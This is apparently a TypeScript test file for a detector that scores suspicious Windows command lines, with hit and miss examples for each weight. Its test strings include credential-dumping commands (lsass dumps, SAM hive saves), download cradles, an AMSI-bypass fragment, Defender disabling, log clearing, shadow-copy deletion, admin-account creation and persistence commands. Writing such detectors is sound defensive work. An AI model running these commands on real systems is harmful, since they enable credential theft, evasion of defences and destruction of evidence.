import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { analysePayload, type PayloadKind } from './analyse.ts';

function codes(text: string, kind: PayloadKind = 'auto'): readonly string[] {
  return analysePayload(text, kind).features.map((feature) => feature.code);
}

interface Weight {
  readonly code: string;
  readonly points: number;
  readonly hits: readonly string[];
  /** Texts that come near and must not earn it. */
  readonly misses: readonly string[];
}

const WEIGHTS: readonly Weight[] = [
  {
    code: 'P01',
    points: 25,
    hits: ['powershell -enc RwBlAHQALQBEAGEAdABlAA==', 'pwsh -EncodedCommand $x'],
    misses: ['powershell -ep bypass -f a.ps1', 'powershell -c "encoded"'],
  },
  {
    code: 'P02',
    points: 5,
    hits: [
      'powershell -w hidden -c x',
      'powershell -NoP -c x',
      'powershell -ExecutionPolicy Bypass -c x',
      'powershell -w 1 -c x',
    ],
    misses: ['powershell -c x', 'powershell -ExecutionPolicy RemoteSigned -c x', 'powershell -WindowStyle Normal -c x'],
  },
  {
    code: 'P03',
    points: 8,
    hits: ['cscript KernCap.vbs', 'C:\\Windows\\System32\\cmd.exe', '"C:\\Windows\\System32\\rundll32.exe" a.dll,b'],
    misses: ['notepad.exe', 'whoami', 'C:\\tools\\cmd.exe.config.exe'],
  },
  {
    code: 'P04',
    points: 20,
    hits: [
      "(New-Object Net.WebClient).DownloadString('http://a.example/')",
      'Invoke-WebRequest -Uri http://a.example',
      'iwr http://a.example -o x',
      'Set x = CreateObject("MSXML2.XMLHTTP")',
      'bitsadmin /transfer j http://a.example/x c:\\x',
      'certutil -urlcache -split -f http://a.example/x',
    ],
    misses: ['certutil -hashfile a.txt', 'x = "download page"', 'curl --version'],
  },
  {
    code: 'P05',
    points: 15,
    hits: ['iex $x', '$x | Invoke-Expression', 'Execute x\nDim y', "& ('ie'+'x') $y", 'var y = 1; eval(z);'],
    misses: ['. C:\\tools\\a.ps1', '& $program', 'Set x = db.ExecQuery("select 1")\nDim y'],
  },
  {
    code: 'P06',
    points: 10,
    hits: [
      'c:\\\\temp\\\\log.txt',
      'C:\\Users\\bob\\AppData\\Local\\x.exe',
      'C:\\Users\\Public\\x.exe',
      'C:\\ProgramData\\x.exe',
      'c:\\$Recycle.Bin\\x.exe',
      'C:\\PerfLogs\\x.exe',
      '\\\\10.0.0.5\\share\\x.exe',
      'cmd /c %TEMP%\\x.bat',
    ],
    misses: [
      'C:\\Program Files\\Vendor\\x.exe',
      'C:\\ProgramData\\Vendor\\x.exe',
      '\\\\.\\root\\cimv2',
      '\\\\SRV\\root\\subscription',
      'x = "\\\\d+\\\\s"',
      'C:\\Template\\x.exe',
    ],
  },
  {
    code: 'P07',
    points: 20,
    hits: [
      'net user bob Passw0rd /add',
      'net user bob Passw0rd',
      'net localgroup administrators bob /add',
      'New-LocalUser bob',
      'net1 user bob /active:yes',
    ],
    misses: ['net user /domain', 'net user', 'net user bob', 'net localgroup administrators', 'net use x: \\\\a\\b'],
  },
  {
    code: 'P08',
    points: 25,
    hits: [
      '[Reflection.Assembly]::Load($b)',
      'VirtualAlloc(0,1,2,3)',
      'CreateObject("System.Runtime.Serialization.Formatters.Binary.BinaryFormatter")',
    ],
    misses: ['[Reflection.Assembly]::GetExecutingAssembly()', 'x = "create thread"'],
  },
  {
    code: 'P09',
    points: 30,
    hits: ['procdump -ma lsass.exe', 'rundll32 comsvcs.dll, MiniDump 1 a full', 'reg save HKLM\\SAM a'],
    misses: ['reg query HKLM\\Software', 'rundll32 shell32.dll,Control_RunDLL', 'glasses'],
  },
  {
    code: 'P10',
    points: 25,
    hits: [
      "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')",
      'Set-MpPreference -DisableRealtimeMonitoring 1',
      'EnableScriptBlockLogging',
    ],
    misses: ['Get-MpPreference', 'auditpol /get /category:*'],
  },
  {
    code: 'P11',
    points: 10,
    hits: ['powershell -e JwBhACcAKwAnAGIAJwA='],
    misses: ["'a'+'b'", 'cmd /c powershell -c Get-Date', 'powershell -enc RwBlAHQALQBEAGEAdABlAA=='],
  },
  {
    code: 'P12',
    points: 10,
    hits: [
      "powershell $env:I4Pzl|.(Get-C`ommand ('{1}e{0}'-f'x','i'))",
      'iNvOKe-ExPrESsIoN wRItE-hOSt hELlO wORlD aND mORe tEXt tHAt iS lOnG',
      'p^ow^er^sh^ell -c wr^ite-ou^tput hel^lo wor^ld',
    ],
    misses: [
      'cmd.exe /c echo %ProcessId% >> c:\\\\temp\\\\log.txt',
      'Set-WmiInstance -Class CommandLineEventConsumer -Namespace root/subscription -Arguments $CommandLineTemplate',
      'C:\\Program Files\\Microsoft Monitoring Agent\\Agent\\MonitoringHost.exe -Embedding -Quiet',
      'powershell -Sta -Nop -Window Hidden -EncodedCommand RwBlAHQALQBEAGEAdABlAA==',
    ],
  },
  {
    code: 'P13',
    points: 10,
    hits: ['http://10.1.2.3/a', 'http://a.example:8080/x', 'ping 192.168.7.9'],
    misses: ['http://a.example/x', 'Version=3.0.0.0', 'version 10.0.19041.1', 'ping 127.0.0.1', 'x 1.2.3.400'],
  },
  {
    code: 'P14',
    points: 10,
    hits: [
      'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a',
      'schtasks /create /tn a /tr b',
      'sc create a binPath= b',
      'Set-WmiInstance -Class __EventFilter',
    ],
    misses: [
      'schtasks /query',
      'sc query winmgmt',
      'reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall',
    ],
  },
  {
    code: 'P15',
    points: 20,
    hits: [
      "iex ([WmiClass]'root\\cimv2:RacTask').Properties['HiveUploadTask'].Value",
      'iex (Get-ItemProperty HKLM:\\Software\\x).y',
      '$x=(Get-ItemProperty HKLM:\\Software\\x).y; [Convert]::FromBase64String($x)',
    ],
    misses: ['Get-ItemProperty HKLM:\\Software\\x', 'shell.RegRead "HKLM\\x"'],
  },
  {
    code: 'P16',
    points: 5,
    hits: ['whoami /all', 'net user /domain', 'cmd /c systeminfo', 'ipconfig & netstat -an'],
    misses: ['net user bob Passw0rd /add', 'notepad.exe', 'echo whoami'],
  },
  {
    code: 'P17',
    points: 30,
    hits: [
      'wevtutil cl Security',
      'Clear-EventLog -LogName System',
      'vssadmin delete shadows /all',
      'wmic shadowcopy delete',
    ],
    misses: ['wevtutil qe Security', 'vssadmin list shadows', 'wmic shadowcopy list'],
  },
  {
    code: 'P18',
    points: 20,
    hits: [
      'Set l = s.ExecQuery("SELECT * FROM Win32_Process")\nFor Each p in l\np.Terminate()\nNext',
      'Stop-Process -Name x',
      'taskkill /im x',
      'svc.StopService()',
      'wmic process where name="x" call terminate',
    ],
    misses: ['Set l = s.ExecQuery("SELECT * FROM Win32_Process")', 'Get-Process', 'Start-Service x'],
  },
];

for (const { code, points, hits, misses } of WEIGHTS) {
  describe(`${code} is worth ${points}`, () => {
    for (const text of hits) {
      test(`for ${text.slice(0, 60).replace(/\s+/g, ' ')}`, () => {
        const feature = analysePayload(text).features.find((item) => item.code === code);
        assert.equal(feature?.points, points);
        assert.notEqual(feature?.match, '');
        assert.ok((feature?.match.length ?? 0) <= 120);
      });
    }
    for (const text of misses) {
      test(`not for ${text.slice(0, 60).replace(/\s+/g, ' ')}`, () => assert.equal(codes(text).includes(code), false));
    }
  });
}

describe('sums', () => {
  test('the benign command of BVT earns the interpreter alone', () => {
    const { features, points } = analysePayload('cscript KernCap.vbs');
    assert.deepEqual([features.map((item) => item.code), points], [['P03'], 8]);
  });
  test('a logger into a temp folder earns P03 and P06', () => {
    const { features, points } = analysePayload('cmd.exe /c echo %ProcessId% >> c:\\\\temp\\\\log.txt');
    assert.deepEqual([features.map((item) => item.code), points], [['P03', 'P06'], 18]);
  });
  test('an encoded command with hidden flags earns 38', () => {
    const text = `powershell -Sta -Nop -Window Hidden -EncodedCommand ${Buffer.from('Get-Date', 'utf16le').toString('base64')}`;
    const { features, points } = analysePayload(text);
    assert.deepEqual([features.map((item) => item.code), points], [['P01', 'P02', 'P03'], 38]);
  });
  test('a script that ends a process earns P18 alone', () => {
    const text = [
      'Dim oLocation, oServices, oProcessList, oProcess',
      'Set oLocation = CreateObject("WbemScripting.SWbemLocator")',
      'Set oServices = oLocation.ConnectServer(, "root\\cimv2")',
      'Set oProcessList = oServices.ExecQuery("SELECT * FROM Win32_Process WHERE ProcessID = " & TargetEvent.ProcessID)',
      'For Each oProcess in oProcessList',
      'oProcess.Terminate()',
      'Next',
    ].join('\n');
    const { features, points } = analysePayload(text);
    assert.deepEqual([features.map((item) => item.code), points], [['P18'], 20]);
  });
  test('no more than 40 points are given', () => {
    const text = 'powershell -nop -w hidden -enc RwBlAHQALQBEAGEAdABlAA== ; bitsadmin ; lsass';
    assert.equal(analysePayload(text).points, 40);
  });
  test('weights are taken over decoded layers', () => {
    const inner = Buffer.from('net user bob Passw0rd /add', 'utf16le').toString('base64');
    assert.ok(codes(`powershell -enc ${inner}`).includes('P07'));
  });
  test('each weight counts once, in code order', () => {
    const found = codes('cmd /c whoami & whoami & bitsadmin & bitsadmin');
    assert.deepEqual(found, [...new Set(found)].sort());
  });
});
